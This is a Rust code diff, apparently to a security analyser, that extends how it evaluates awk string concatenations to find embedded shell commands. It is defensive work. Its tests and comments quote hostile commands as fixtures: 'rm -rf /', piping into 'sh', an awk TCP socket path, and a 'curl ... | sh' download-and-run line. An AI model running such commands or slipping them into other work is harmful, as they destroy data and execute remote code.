@@ -20,10 +20,11 @@ pub(super) fn commands<'t>(sem: &BashSem<'_>, inv: &Invocation<'t>) -> Vec<Embed
         return vec![embedded(sem, program, None)];
     };
     let mut vars = vars;
-    vars.extend(literal_assignments(&source));
+    let assigned = literal_assignments(&source, &vars);
+    vars.extend(assigned);
     sinks(&source)
         .into_iter()
-        .map(|expr| embedded(sem, program, evaluate(expr, &vars)))
+        .map(|expr| embedded(sem, program, evaluate(expr, &vars, None)))
         .collect()
 }
 
@@ -76,8 +77,11 @@ fn assignment(s: &str) -> Option<(String, String)> {
     Some((name.to_string(), value.to_string()))
 }
 
-/// `name = "literal"` anywhere in the program: a constant as far as commands go.
-fn literal_assignments(source: &str) -> Vec<(String, String)> {
+/// `name = "literal"` anywhere in the program, or a concatenation of literals and variables
+/// assigned before (`url = "http://" host "/s"`): constants as far as commands go. A part only
+/// known at run time (a field, an unknown variable) stands as one plain word, so the command's
+/// shape is still checked (`"sort -k" col` sorts, `"curl " u " | sh"` runs what it downloads).
+fn literal_assignments(source: &str, known: &[(String, String)]) -> Vec<(String, String)> {
     let mut out = Vec::new();
     let bytes = source.as_bytes();
     for (eq, _) in source.match_indices('=') {
@@ -94,11 +98,29 @@ fn literal_assignments(source: &str) -> Vec<(String, String)> {
         {
             continue;
         }
-        if let Some((value, _)) = string_literal(after) {
+        let vars: Vec<(String, String)> = known.iter().chain(&out).cloned().collect();
+        if let Some(value) = evaluate(statement(after), &vars, Some("VALUE")) {
             out.push((name.to_string(), value));
         }
     }
     out
+}
+
+/// The expression at the start of `s`, up to the end of its statement (`;`, `}` or a newline
+/// outside a string).
+fn statement(s: &str) -> &str {
+    let mut in_string = false;
+    let mut escaped = false;
+    for (i, c) in s.char_indices() {
+        match c {
+            _ if escaped => escaped = false,
+            '\\' if in_string => escaped = true,
+            '"' => in_string = !in_string,
+            ';' | '}' | '\n' if !in_string => return &s[..i],
+            _ => {}
+        }
+    }
+    s
 }
 
 /// The command expressions of the program: arguments of `system(…)`, targets of `| ` and `|&`
@@ -166,8 +188,8 @@ fn expression_before(s: &str) -> &str {
 }
 
 /// The value of an awk string expression made of literals and variables (juxtaposed, which awk
-/// concatenates); `None` when a part is unknown.
-fn evaluate(expr: &str, vars: &[(String, String)]) -> Option<String> {
+/// concatenates); `None` when a part is unknown, unless `unknown` is given to stand for it.
+fn evaluate(expr: &str, vars: &[(String, String)], unknown: Option<&str>) -> Option<String> {
     let mut out = String::new();
     let mut rest = expr.trim();
     while !rest.is_empty() {
@@ -176,15 +198,18 @@ fn evaluate(expr: &str, vars: &[(String, String)]) -> Option<String> {
             out.push_str(&value);
             rest = rest[len..].trim_start();
         } else {
-            let end = rest
+            let field = usize::from(rest.starts_with('$'));
+            let end = rest[field..]
                 .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
-                .unwrap_or(rest.len());
-            if end == 0 {
+                .map_or(rest.len(), |e| e + field);
+            if end == field {
                 return None;
             }
             let name = &rest[..end];
-            let value = vars.iter().rev().find(|(n, _)| n == name)?;
-            out.push_str(&value.1);
+            match vars.iter().rev().find(|(n, _)| n == name) {
+                Some((_, value)) if field == 0 => out.push_str(value),
+                _ => out.push_str(unknown?),
+            }
             rest = rest[end..].trim_start();
         }
     }
@@ -220,7 +245,7 @@ mod tests {
             r#"BEGIN { system("rm -rf " "/"); print "x" | "sh"; "date" | getline d; system(cmd) }"#,
         )
         .into_iter()
-        .map(|e| evaluate(e, &vars))
+        .map(|e| evaluate(e, &vars, None))
         .collect();
         assert_eq!(
             found,
@@ -231,10 +256,28 @@ mod tests {
                 Some("date".to_string()),
             ]
         );
-        assert_eq!(evaluate("x", &[]), None, "an unknown variable");
+        assert_eq!(evaluate("x", &[], None), None, "an unknown variable");
         assert_eq!(
-            literal_assignments(r#"BEGIN { s = "/inet/tcp/0/h/1"; if (a == "b") print }"#),
+            literal_assignments(
+                r#"BEGIN { s = "/inet/tcp/0/h/1"; if (a == "b") print }"#,
+                &[]
+            ),
             vec![("s".to_string(), "/inet/tcp/0/h/1".to_string())]
+        );
+        // concatenations of literals and variables assigned before; a run-time part drops it
+        assert_eq!(
+            literal_assignments(
+                "BEGIN {\n url = \"http://\" \"10.0.0.1\" \"/s\"\n cmd = \"curl -s \" url \" | sh\"\n x = \"a\" $1 }",
+                &[]
+            ),
+            vec![
+                ("url".to_string(), "http://10.0.0.1/s".to_string()),
+                (
+                    "cmd".to_string(),
+                    "curl -s http://10.0.0.1/s | sh".to_string()
+                ),
+                ("x".to_string(), "aVALUE".to_string()),
+            ]
         );
     }
 }
